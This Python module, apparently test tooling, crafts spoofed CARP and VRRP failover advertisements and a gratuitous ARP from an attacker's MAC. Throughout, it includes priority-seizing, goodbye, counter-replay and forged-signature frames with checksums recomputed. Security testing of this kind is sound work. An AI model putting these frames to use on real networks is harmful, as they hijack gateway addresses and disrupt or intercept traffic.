"""What can be done to a recorded frame without any key: bytes in, bytes out, checksums made good again.

Written from the protocol notes and RFC 3768/5798, not from the product's code: an attacker has his own.
"""

import hashlib
import hmac
import socket
from enum import StrEnum
from ipaddress import IPv4Address
from struct import pack
from typing import NamedTuple

GROUP = socket.inet_aton("224.0.0.18")
GROUP_MAC = bytes((0x01, 0x00, 0x5E, 0x00, 0x00, 0x12))
ATTACKER_MAC = bytes((0x02, 0x66, 0x66, 0x66, 0x66, 0x66))
CARP_LENGTH = 36


class Kind(StrEnum):
    """What a segment speaks; the two protocols share number 112 and the multicast group."""

    CARP = "carp"
    VRRP2 = "vrrp2"
    VRRP3 = "vrrp3"


class Packet(NamedTuple):
    """An IPv4 frame taken apart. ``raw`` keeps checksums and lengths as they are given."""

    mac: bytes
    source: bytes
    ttl: int
    payload: bytes
    options: bytes = b""
    fragment: int = 0x4000
    raw: bool = False

    @classmethod
    def read(cls, frame: bytes) -> "Packet":
        """A recorded advertisement."""
        head = 14 + (frame[14] & 15) * 4
        end = 14 + int.from_bytes(frame[16:18], "big")
        return cls(frame[6:12], frame[26:30], frame[22], frame[head:end])

    def frame(self) -> bytes:
        """The whole frame to the group, its IP header checked and well."""
        words = 5 + len(self.options) // 4
        length = words * 4 + len(self.payload)
        head = pack("!BBHHHBBH", 0x40 | words, 0x10, length, 7, self.fragment, self.ttl, 112, 0)
        head += self.source + GROUP + self.options
        head = head[:10] + pack("!H", checksum(head)) + head[12:]
        return GROUP_MAC + self.mac + b"\x08\x00" + head + self.payload


def checksum(data: bytes) -> int:
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(int.from_bytes(data[at : at + 2], "big") for at in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF & ~total


def sealed(kind: Kind, packet: Packet) -> Packet:
    """The same with the checksum of its payload made good."""
    blank = packet.payload[:6] + b"\0\0" + packet.payload[8:]
    covered = blank[:CARP_LENGTH] if kind is Kind.CARP else blank
    if kind is Kind.VRRP3:
        covered = packet.source + GROUP + pack("!BBH", 0, 112, len(blank)) + blank
    return packet._replace(payload=blank[:6] + pack("!H", checksum(covered)) + blank[8:])


def altered(kind: Kind, packet: Packet, changes: dict[int, int]) -> Packet:
    """The same with some bytes of its payload changed."""
    payload = bytearray(packet.payload)
    for offset, value in changes.items():
        payload[offset] = value
    return sealed(kind, packet._replace(payload=bytes(payload)))


def best(kind: Kind, packet: Packet) -> Packet:
    """It claims to be better than everybody: advskew 0; priority 255."""
    return altered(kind, packet, {2: 0} if kind is Kind.CARP else {2: 255})


def goodbye(kind: Kind, packet: Packet) -> Packet:
    """It says goodbye: advbase and advskew 255; priority 0."""
    return altered(kind, packet, {2: 255, 5: 255} if kind is Kind.CARP else {2: 0})


def is_goodbye(kind: Kind, packet: Packet) -> bool:
    """Whether it says so."""
    if kind is Kind.CARP:
        return packet.payload[2] == packet.payload[5] == 255
    return packet.payload[2] == 0


def counted_on(packet: Packet) -> Packet:
    """CARP: the counter plus one, the digest as it was."""
    counter = (int.from_bytes(packet.payload[8:16], "big") + 1) & (1 << 64) - 1
    return sealed(Kind.CARP, packet._replace(payload=packet.payload[:8] + pack("!Q", counter) + packet.payload[16:]))


def signed(
    vhid: int, address: str, passphrase: str, source: str, counter: int, advskew: int, advbase: int = 1
) -> Packet:
    """CARP as anybody with the passphrase would send it (carp(4): 02 01 vhid, addresses, counter)."""
    key = passphrase.encode().ljust(20, b"\0")
    message = bytes((2, 1, vhid)) + IPv4Address(address).packed + pack("!Q", counter)
    digest = hmac.new(key, message, hashlib.sha1).digest()
    payload = pack("!BBBBBBHQ", 0x21, vhid, advskew, 7, 0, advbase, 0, counter) + digest
    return sealed(Kind.CARP, Packet(ATTACKER_MAC, IPv4Address(source).packed, 255, payload))


def vrrp(version: int, vrid: int, address: str, source: str, priority: int = 255) -> Packet:
    """VRRP as a router would send it: version 2 without authentication, or 3."""
    timing = pack("!BB", 0, 1) if version == 2 else pack("!H", 100)
    head = pack("!BBBB", version << 4 | 1, vrid, priority, 1) + timing
    payload = head + b"\0\0" + IPv4Address(address).packed + (b"\0" * 8 if version == 2 else b"")
    kind = Kind.VRRP2 if version == 2 else Kind.VRRP3
    return sealed(kind, Packet(ATTACKER_MAC, IPv4Address(source).packed, 255, payload))


def claim(address: str) -> bytes:
    """A gratuitous ARP request by which the attacker says that the address is his."""
    packed = IPv4Address(address).packed
    body = pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, ATTACKER_MAC, packed, b"\0" * 6, packed)
    return (b"\xff" * 6 + ATTACKER_MAC + b"\x08\x06" + body).ljust(60, b"\0")
